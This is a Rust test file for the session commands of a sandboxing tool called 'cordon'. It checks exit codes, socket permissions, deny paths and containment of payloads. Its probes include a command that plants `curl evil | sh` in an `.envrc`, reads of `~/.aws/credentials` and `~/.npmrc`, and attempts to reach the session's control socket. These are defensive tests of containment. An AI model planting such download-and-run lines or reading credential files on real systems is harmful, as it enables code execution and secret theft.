//! `cordon session start | run | list | stop`, against the real kernel, as
//! root and as uid 65534, namespaces on and off: the exit-code contract per
//! command, the session's report, a payload that tries to reach its own
//! session's control socket, a deny path that appears after the start, a
//! changed profile, and sockets or names the client must not trust.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use support::*;

/// A started session, stopped (and its server killed if need be) on drop,
/// also when the test fails. Its sockets live in a runtime directory of the
/// test's own (`XDG_RUNTIME_DIR`), never in the machine's.
struct Session {
    user: User,
    name: String,
    runtime: tempfile::TempDir,
    ws: PathBuf,
}

impl Session {
    fn start(user: User, profile: &str, ws: &Path, extra: &[&str]) -> Session {
        Session::start_in(runtime_dir(user), user, profile, ws, extra)
    }

    fn start_in(
        runtime: tempfile::TempDir,
        user: User,
        profile: &str,
        ws: &Path,
        extra: &[&str],
    ) -> Session {
        let name = unique("sess").replace('-', "_");
        let mut s = Session {
            user,
            name,
            runtime,
            ws: ws.to_path_buf(),
        };
        let out = s
            .cmd()
            .args([
                "session",
                "start",
                "-q",
                "--name",
                &s.name.clone(),
                "-p",
                profile,
                "-w",
            ])
            .arg(ws)
            .args(extra)
            .output()
            .unwrap();
        assert_code(&out, 0, format!("session start as {user}"));
        assert_eq!(
            text(&out.stdout).trim(),
            s.name,
            "start prints the session's name"
        );
        s.ws = ws.to_path_buf();
        s
    }

    /// `cordon` as the session's user, with the session's runtime directory.
    fn cmd(&self) -> Command {
        let mut c = cordon(self.user);
        c.env("XDG_RUNTIME_DIR", self.runtime.path())
            .current_dir(&self.ws);
        c
    }

    fn socket(&self) -> PathBuf {
        self.runtime
            .path()
            .join("cordon/sessions")
            .join(format!("{}.sock", self.name))
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd()
            .args(["session", "run", &self.name])
            .args(args)
            .output()
            .unwrap()
    }

    fn server_pid(&self) -> Option<i32> {
        let out = self
            .cmd()
            .args(["session", "list", "--json"])
            .output()
            .ok()?;
        text(&out.stdout).lines().find_map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).ok()?;
            (v["name"] == self.name.as_str()).then(|| v["pid"].as_i64().unwrap() as i32)
        })
    }
}

/// A runtime directory (`XDG_RUNTIME_DIR`) for `user`'s sessions in a test.
fn runtime_dir(user: User) -> tempfile::TempDir {
    let runtime = tempdir(user);
    std::fs::set_permissions(
        runtime.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    runtime
}

impl Drop for Session {
    fn drop(&mut self) {
        let pid = self.server_pid();
        let _ = self.cmd().args(["session", "stop", &self.name]).output();
        if let Some(p) = pid {
            if pid_alive(p) {
                let _ = nix::sys::signal::kill(
                    nix::unistd::Pid::from_raw(p),
                    nix::sys::signal::Signal::SIGKILL,
                );
            }
        }
    }
}

#[test]
fn session_commands_keep_the_exit_code_contract_and_the_session_reports_them() {
    for user in users("session_commands_keep_the_exit_code_contract") {
        for ns in Ns::ALL {
            let ctx = format!("{user}, {ns}");
            let ws = tempdir(user);
            let out_dir = outside_dir(user);
            let report = out_dir.path().join("session.json");
            let profile = ns_profile("workspace-write", ns);
            let s = Session::start(
                user,
                &profile,
                ws.path(),
                &["--report", report.to_str().unwrap()],
            );
            let sock = std::fs::metadata(s.socket()).unwrap();
            use std::os::unix::fs::{MetadataExt, PermissionsExt};
            assert_eq!(sock.uid(), user.uid(), "{ctx}: the socket is the user's");
            assert_eq!(
                sock.permissions().mode() & 0o077,
                0,
                "{ctx}: nobody else may connect"
            );
            let dir = std::fs::metadata(s.socket().parent().unwrap()).unwrap();
            assert_eq!(dir.permissions().mode() & 0o777, 0o700, "{ctx}");

            let out = s.run(&["--", "/bin/sh", "-c", "echo out; echo err >&2; exit 3"]);
            assert_code(&out, 3, &ctx);
            assert_eq!(text(&out.stdout), "out\n", "{ctx}: the client's stdout");
            assert!(
                text(&out.stderr).contains("err"),
                "{ctx}: the client's stderr"
            );
            assert_code(&s.run(&["--", "/bin/sh", "-c", "kill -TERM $$"]), 143, &ctx);
            assert_code(&s.run(&["--", "/no/such/program"]), 127, &ctx);
            // The policy holds per command: a write outside the workspace fails
            // with the kernel's answer, inside it works.
            let outside = out_dir.path().join("planted");
            let out = s.run(&[
                "--",
                PYTHON,
                probe_py().to_str().unwrap(),
                "write",
                outside.to_str().unwrap(),
                "write",
                ws.path().join("inside").to_str().unwrap(),
            ]);
            assert_code(&out, 0, &ctx);
            assert_eq!(
                text(&out.stdout).lines().collect::<Vec<_>>(),
                [ns.write_denied(), "OK"],
                "{ctx}"
            );
            assert!(!outside.exists(), "{ctx}");
            // A per-command report, as `cordon run --report` writes it.
            let one = out_dir.path().join("one.json");
            let out = s.run(&["--report", one.to_str().unwrap(), "--", "/bin/true"]);
            assert_code(&out, 0, &ctx);
            let r = read_report(&one);
            check_report_schema(&r, &ctx);
            assert_eq!(r["command"][0], "/bin/true", "{ctx}");

            let list = s.cmd().args(["session", "list"]).output().unwrap();
            assert_code(&list, 0, &ctx);
            assert!(
                text(&list.stdout).contains(&s.name),
                "{ctx}: {}",
                text(&list.stdout)
            );

            let stop = s.cmd().args(["session", "stop", &s.name]).output().unwrap();
            assert_code(&stop, 0, &ctx);
            assert!(
                !s.socket().exists(),
                "{ctx}: the socket goes with the session"
            );
            let rep: serde_json::Value =
                serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
            let codes: Vec<i64> = rep["commands"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c["exit_code"].as_i64().unwrap())
                .collect();
            assert_eq!(codes, [3, 143, 127, 0, 0], "{ctx}: every command, in order");
            assert_eq!(rep["ended_by"], "stop", "{ctx}");
            // After the stop: a one-line refusal, exit 125.
            let out = s.run(&["--", "/bin/true"]);
            assert_code(&out, 125, &ctx);
            assert!(
                assert_one_error_line(&out, &ctx).contains("no such session"),
                "{ctx}"
            );
        }
    }
}

#[test]
fn a_payload_cannot_reach_its_own_session() {
    // From inside a command, the session's control socket is out of reach:
    // connecting to it fails, so no payload can start, stop or widen sessions.
    // The same connect from the host works (the probe can fail).
    const CONNECT: &str = "import socket, sys, errno\n\
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n\
        try:\n    s.connect(sys.argv[1]); print('OK')\n\
        except OSError as e:\n    print(errno.errorcode.get(e.errno, e.errno))\n";
    for user in users("a_payload_cannot_reach_its_own_session") {
        for ns in Ns::ALL {
            let ctx = format!("{user}, {ns}");
            let ws = tempdir(user);
            let s = Session::start(user, &ns_profile("workspace-write", ns), ws.path(), &[]);
            let sock = s.socket();
            let out = s.run(&["--", PYTHON, "-c", CONNECT, sock.to_str().unwrap()]);
            assert_code(&out, 0, &ctx);
            let got = text(&out.stdout);
            assert_ne!(
                got.trim(),
                "OK",
                "{ctx}: a payload connected to its session"
            );
            let mut host = match user {
                User::Root => Command::new(PYTHON),
                User::Nobody => {
                    let mut c = Command::new("setpriv");
                    c.args(["--reuid=65534", "--regid=65534", "--clear-groups", PYTHON]);
                    c
                }
            };
            let host = host
                .args(["-c", CONNECT, sock.to_str().unwrap()])
                .output()
                .unwrap();
            assert_eq!(text(&host.stdout).trim(), "OK", "{ctx}: the host can");
        }
    }
}

#[test]
fn a_payload_let_through_to_the_socket_is_still_refused_by_the_server() {
    // A profile that lists the sessions directory in unix_connect: the
    // mediation still refuses cordon's own session sockets. Through a hard
    // link elsewhere (listed too), the connect goes through the sandbox, and
    // the server refuses any client that descends from one of its commands:
    // no answer, nothing run.
    const ASK: &str = r#"
import socket, sys, errno
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.connect(path)
    except OSError as e:
        print(errno.errorcode.get(e.errno, e.errno))
        continue
    a, b = socket.socketpair()
    try:
        socket.send_fds(s, [b'{"op":"info"}'], [b.fileno()])
    except OSError:
        print("REFUSED")
        continue
    b.close()
    a.settimeout(5)
    print("ANSWERED" if a.recv(65536) else "REFUSED")
"#;
    for user in users("a_payload_let_through_to_the_socket_is_still_refused") {
        for ns in Ns::ALL {
            let ctx = format!("{user}, {ns}");
            let ws = tempdir(user);
            let runtime = runtime_dir(user);
            let dir = runtime.path().join("cordon/sessions");
            let alias = ws.path().join("alias.sock");
            let profile = profile_ns(
                "let-through",
                &format!(
                    "extends = \"workspace-write\"\n[network]\nunix_connect = [\"{}/*\", \"{}\"]\n",
                    dir.display(),
                    alias.display()
                ),
                ns,
            );
            let s = Session::start_in(runtime, user, &profile, ws.path(), &[]);
            let sock = s.socket();
            std::fs::hard_link(&sock, &alias).unwrap();
            let out = s.run(&[
                "-q",
                "--",
                PYTHON,
                "-c",
                ASK,
                sock.to_str().unwrap(),
                alias.to_str().unwrap(),
            ]);
            assert_code(&out, 0, &ctx);
            assert_eq!(
                text(&out.stdout).lines().collect::<Vec<_>>(),
                ["EACCES", "REFUSED"],
                "{ctx}: {}",
                text(&out.stderr)
            );
            // The same request from the host is answered.
            let host = s.cmd().args(["session", "list"]).output().unwrap();
            assert!(text(&host.stdout).contains(&s.name), "{ctx}");
        }
    }
}

#[test]
fn commands_of_a_session_share_loopback_processes_and_tmp() {
    // The agent's flow: a dev server run by one command is tested by another
    // while it runs; files in /tmp carry over. What a command leaves running
    // ends with it (as in `cordon run`), another session shares none of it,
    // and the server's command ends with its session.
    const FETCH: &str = r#"
import sys, urllib.request
try:
    print(urllib.request.urlopen("http://127.0.0.1:%s/" % sys.argv[1], timeout=5).status)
except Exception as e:
    print(type(e).__name__)
"#;
    for user in users("commands_of_a_session_share_loopback_processes_and_tmp") {
        let ctx = format!("{user}");
        let ws = tempdir(user);
        let port = {
            let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            l.local_addr().unwrap().port()
        };
        let profile = profile_ns(
            "dev-server",
            &format!(
                "extends = \"workspace-write\"\n[network]\nmode = \"filtered\"\nconnect_tcp = [{port}]\nbind_tcp = [{port}]\n"
            ),
            Ns::Auto,
        );
        let s = Session::start(user, &profile, ws.path(), &[]);
        // A leftover ends with its command; a file in /tmp stays.
        let marker = format!("{}.5", 30 + port % 1000);
        let out = s.run(&[
            "-q",
            "--",
            "/bin/sh",
            "-c",
            &format!("sleep {marker} & echo kept > /tmp/note"),
        ]);
        assert_code(&out, 0, &ctx);
        assert!(
            poll_until(Duration::from_secs(5), || pids_with_argv(&[
                "sleep", &marker
            ])
            .is_empty()),
            "{ctx}: a process the command left running outlived it"
        );
        let out = s.run(&["-q", "--", "/bin/cat", "/tmp/note"]);
        assert_code(&out, 0, &ctx);
        assert_eq!(text(&out.stdout), "kept\n", "{ctx}: the session's /tmp");
        // A SysV segment is its command's (an IPC namespace each): it neither
        // outlives it nor reaches the next command.
        let out = s.run(&[
            "-q",
            "--",
            "/bin/sh",
            "-c",
            "ipcmk -M 4096 >/dev/null && ipcs -m | grep -c '^0x'",
        ]);
        assert_code(&out, 0, &ctx);
        assert_eq!(text(&out.stdout).trim(), "1", "{ctx}: the segment was made");
        let out = s.run(&[
            "-q",
            "--",
            "/bin/sh",
            "-c",
            "ipcs -m | grep -c '^0x' || true",
        ]);
        assert_eq!(
            text(&out.stdout).trim(),
            "0",
            "{ctx}: a segment outlived its command"
        );
        // The dev server, run by a command that keeps running.
        let mut server = s.cmd();
        server
            .args([
                "session",
                "run",
                "-q",
                &s.name,
                "--",
                PYTHON,
                "-m",
                "http.server",
            ])
            .arg(port.to_string())
            .args(["--bind", "127.0.0.1"]);
        let server = start(server);
        let up = poll_until(Duration::from_secs(10), || {
            std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
        });
        assert!(up, "{ctx}: the server did not start");
        let out = s.run(&["-q", "--", PYTHON, "-c", FETCH, &port.to_string()]);
        assert_code(&out, 0, &ctx);
        assert_eq!(
            text(&out.stdout).trim(),
            "200",
            "{ctx}: another command reached it"
        );
        // Another session: not this one's /tmp.
        let other = Session::start(user, &profile, ws.path(), &[]);
        let out = other.run(&["-q", "--", "/bin/sh", "-c", "cat /tmp/note 2>&1"]);
        assert!(
            text(&out.stdout).contains("No such file"),
            "{ctx}: {}",
            text(&out.stdout)
        );
        drop(other);
        // The session's end ends the server's command (SIGTERM, forwarded).
        let stop = s.cmd().args(["session", "stop", &s.name]).output().unwrap();
        assert_code(&stop, 0, &ctx);
        let out = server.finish(Duration::from_secs(10), &ctx);
        assert_ne!(
            out.status.code(),
            Some(0),
            "{ctx}: the server's command ended by the stop"
        );
        assert!(
            std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
            "{ctx}: the dev server outlived its session"
        );
    }
}

#[test]
fn a_command_ended_by_the_session_still_puts_back_what_it_planted() {
    // A command that ignores SIGTERM and plants a file that would run code
    // on the host (`.envrc`): `session stop` kills its tree after the grace
    // period, never its launcher, which puts the file back and reports.
    for user in users("a_command_ended_by_the_session_still_puts_back") {
        for ns in Ns::ALL {
            let ctx = format!("{user}, {ns}");
            let ws = tempdir(user);
            let s = Session::start(user, &ns_profile("workspace-write", ns), ws.path(), &[]);
            let envrc = ws.path().join(".envrc");
            let mut c = s.cmd();
            c.args(["session", "run", "-q", &s.name, "--", "/bin/sh", "-c"])
                .arg("trap '' TERM HUP; echo 'curl evil | sh' > .envrc; sleep 60");
            let running = start(c);
            assert!(
                poll_until(Duration::from_secs(10), || envrc.exists()),
                "{ctx}: the command did not start"
            );
            let stop = s.cmd().args(["session", "stop", &s.name]).output().unwrap();
            assert_code(&stop, 0, &ctx);
            let out = running.finish(Duration::from_secs(20), &ctx);
            assert_eq!(out.status.code(), Some(137), "{ctx}: {}", text(&out.stderr));
            assert!(
                !envrc.exists(),
                "{ctx}: the planted .envrc stayed on the host"
            );
        }
    }
}

#[test]
fn a_deny_path_that_appears_after_the_start_is_denied_to_later_commands() {
    for user in users("a_deny_path_that_appears_after_the_start") {
        for ns in Ns::ALL {
            let ctx = format!("{user}, {ns}");
            let ws = tempdir(user);
            let s = Session::start(user, &ns_profile("workspace-write", ns), ws.path(), &[]);
            let aws = home(user).join(".aws");
            let _ = std::fs::remove_dir_all(&aws);
            let before = s.run(&[
                "--",
                PYTHON,
                probe_py().to_str().unwrap(),
                "list",
                home(user).to_str().unwrap(),
            ]);
            assert_code(&before, 0, &ctx);
            std::fs::create_dir_all(&aws).unwrap();
            std::fs::write(aws.join("credentials"), "[default]\nkey = secret\n").unwrap();
            chown_r(&aws, user);
            let cred = aws.join("credentials");
            let out = s.run(&[
                "--",
                PYTHON,
                probe_py().to_str().unwrap(),
                "read",
                cred.to_str().unwrap(),
            ]);
            assert_code(&out, 0, &ctx);
            let got = text(&out.stdout);
            assert_ne!(got.trim(), "OK", "{ctx}: a new ~/.aws was readable");
            assert_eq!(
                probe_unsandboxed(user, &[("read", cred.to_str().unwrap())]),
                ["OK"],
                "{ctx}: the host can read it"
            );
            std::fs::remove_dir_all(&aws).unwrap();
            // A masked file the host replaces (a rename over it, as npm and
            // credential helpers write): the kernel detaches the mask in every
            // namespace, so the session's view no longer denies it; the next
            // command must not join that view.
            let npmrc = home(user).join(".npmrc");
            std::fs::write(&npmrc, "OLD\n").unwrap();
            chown_r(&npmrc, user);
            let s = Session::start(user, &ns_profile("workspace-write", ns), ws.path(), &[]);
            let read = |s: &Session| {
                let out = s.run(&[
                    "-q",
                    "--",
                    PYTHON,
                    probe_py().to_str().unwrap(),
                    "read",
                    npmrc.to_str().unwrap(),
                ]);
                assert_code(&out, 0, &ctx);
                text(&out.stdout).trim().to_string()
            };
            assert_ne!(read(&s), "OK", "{ctx}: ~/.npmrc readable at the start");
            let tmp = home(user).join(".npmrc.new");
            std::fs::write(&tmp, "NEW\n").unwrap();
            chown_r(&tmp, user);
            std::fs::rename(&tmp, &npmrc).unwrap();
            assert_ne!(
                read(&s),
                "OK",
                "{ctx}: ~/.npmrc readable once the host replaced it"
            );
            std::fs::remove_file(&npmrc).unwrap();
        }
    }
}

#[test]
fn a_changed_profile_is_said_and_refused_with_fresh() {
    for user in users("a_changed_profile_is_said_and_refused_with_fresh") {
        let ctx = format!("{user}");
        let ws = tempdir(user);
        let profile = profile(
            shared_dir(),
            &format!("{}.toml", unique("changing")),
            "extends = \"workspace-write\"\n",
        );
        let s = Session::start(user, &profile, ws.path(), &[]);
        let out = s.run(&["--", "/bin/true"]);
        assert_code(&out, 0, &ctx);
        assert!(
            !text(&out.stderr).contains("changed"),
            "{ctx}: {}",
            text(&out.stderr)
        );
        std::fs::write(
            &profile,
            "extends = \"workspace-write\"\n[network]\nmode = \"on\"\n",
        )
        .unwrap();
        let out = s.run(&["--", "/bin/true"]);
        assert_code(&out, 0, &ctx);
        assert!(
            text(&out.stderr).contains("changed since the session started"),
            "{ctx}: {}",
            text(&out.stderr)
        );
        let out = s.run(&["--fresh", "--", "/bin/true"]);
        assert_code(&out, 125, &ctx);
        assert!(
            assert_one_error_line(&out, &ctx).contains("--fresh"),
            "{ctx}"
        );

        // A profile named by a relative path is the same profile later (the
        // server changes directory), and a repo-local policy added since the
        // start counts as a change.
        let ws = tempdir(user);
        std::fs::write(ws.path().join("p.toml"), "extends = \"workspace-write\"\n").unwrap();
        chown_r(ws.path(), user);
        let s = Session::start(user, "./p.toml", ws.path(), &[]);
        let out = s.run(&["--fresh", "--", "/bin/true"]);
        assert_code(&out, 0, format!("{ctx}: a relative profile path"));
        std::fs::write(
            ws.path().join(".cordon.toml"),
            "[filesystem]\ndeny = [\"${WORKSPACE}/secret.txt\"]\n",
        )
        .unwrap();
        let out = s.run(&["--fresh", "--", "/bin/true"]);
        assert_code(
            &out,
            125,
            format!("{ctx}: a .cordon.toml added since the start"),
        );
    }
}

#[test]
fn clients_refuse_what_they_cannot_trust() {
    for user in users("clients_refuse_what_they_cannot_trust") {
        let ctx = format!("{user}");
        let ws = tempdir(user);
        let s = Session::start(user, "workspace-write", ws.path(), &[]);
        // An unknown name, a name that is a path.
        for (name, says) in [("nope", "no such session"), ("../x", "not a session name")] {
            let out = s
                .cmd()
                .args(["session", "run", name, "--", "/bin/true"])
                .output()
                .unwrap();
            assert_code(&out, 125, &ctx);
            assert!(
                assert_one_error_line(&out, &ctx).contains(says),
                "{ctx}: {name}"
            );
        }
        // A session whose server died: its socket is left, and refused.
        let pid = s.server_pid().expect("the session is listed");
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid),
            nix::sys::signal::Signal::SIGKILL,
        )
        .unwrap();
        assert!(
            poll_until(Duration::from_secs(5), || !pid_alive(pid)),
            "{ctx}"
        );
        let out = s.run(&["--", "/bin/true"]);
        assert_code(&out, 125, &ctx);
        assert!(
            assert_one_error_line(&out, &ctx).contains("has ended"),
            "{ctx}"
        );
        // `list` removes it.
        let list = s.cmd().args(["session", "list"]).output().unwrap();
        assert_code(&list, 0, &ctx);
        assert!(!text(&list.stdout).contains(&s.name), "{ctx}");
        assert!(!s.socket().exists(), "{ctx}");
    }
    if !is_root() {
        return;
    }
    // A socket of another user where a session's would be: refused unread.
    let runtime = tempdir(User::Root);
    let dir = runtime.path().join("cordon/sessions");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let path = dir.join("theirs.sock");
    let _l = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::os::unix::fs::chown(&path, Some(65534), Some(65534)).unwrap();
    let out = cordon(User::Root)
        .env("XDG_RUNTIME_DIR", runtime.path())
        .args(["session", "run", "theirs", "--", "/bin/true"])
        .output()
        .unwrap();
    assert_code(&out, 125, "another user's socket");
    assert!(
        assert_one_error_line(&out, "another user's socket").contains("not a socket of this user"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn a_session_ends_with_its_owner_or_its_timeout() {
    for user in users("a_session_ends_with_its_owner_or_its_timeout") {
        let ctx = format!("{user}");
        let ws = tempdir(user);
        // Its timeout.
        let s = Session::start(user, "workspace-write", ws.path(), &["--timeout", "1s"]);
        assert!(s.server_pid().is_some(), "{ctx}");
        assert!(
            poll_until(Duration::from_secs(10), || !s.socket().exists()),
            "{ctx}: the session outlived its timeout"
        );
        // Its owner: by default the leader of the caller's session (here a
        // shell made a session leader by setsid), which exits at once.
        let runtime = tempdir(user);
        let name = unique("owned").replace('-', "_");
        let script = format!(
            "exec setsid -w /bin/sh -c '{} session start -q --name {name} -w {}'",
            bin().display(),
            ws.path().display()
        );
        let out = cordon(user)
            .env("XDG_RUNTIME_DIR", runtime.path())
            .arg0_shell(&script)
            .output()
            .unwrap();
        assert_code(&out, 0, &ctx);
        let sock = runtime.path().join(format!("cordon/sessions/{name}.sock"));
        assert!(
            poll_until(Duration::from_secs(10), || !sock.exists()),
            "{ctx}: the session outlived the process that started it"
        );
        // --owner names it: alive while that process is.
        let mut owner = Command::new("/bin/sleep").arg("30").spawn().unwrap();
        let s2 = Session::start(
            user,
            "workspace-write",
            ws.path(),
            &["--owner", &owner.id().to_string()],
        );
        std::thread::sleep(Duration::from_millis(300));
        assert!(s2.socket().exists(), "{ctx}: ended while its owner lives");
        owner.kill().unwrap();
        owner.wait().unwrap();
        assert!(
            poll_until(Duration::from_secs(10), || !s2.socket().exists()),
            "{ctx}: the session outlived its --owner"
        );
    }
}

/// Run `script` with /bin/sh as the user `cordon(user)` would run as.
trait ShellOf {
    fn arg0_shell(&mut self, script: &str) -> Command;
}

impl ShellOf for Command {
    fn arg0_shell(&mut self, script: &str) -> Command {
        // Same user and environment as `self`, another program.
        let prog = self.get_program().to_owned();
        let mut c = if prog == "setpriv" {
            let mut c = Command::new("setpriv");
            c.args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "/bin/sh",
                "-c",
                script,
            ]);
            c
        } else {
            let mut c = Command::new("/bin/sh");
            c.args(["-c", script]);
            c
        };
        c.env_clear();
        for (k, v) in self.get_envs() {
            if let Some(v) = v {
                c.env(k, v);
            }
        }
        c.stdin(std::process::Stdio::null());
        c
    }
}
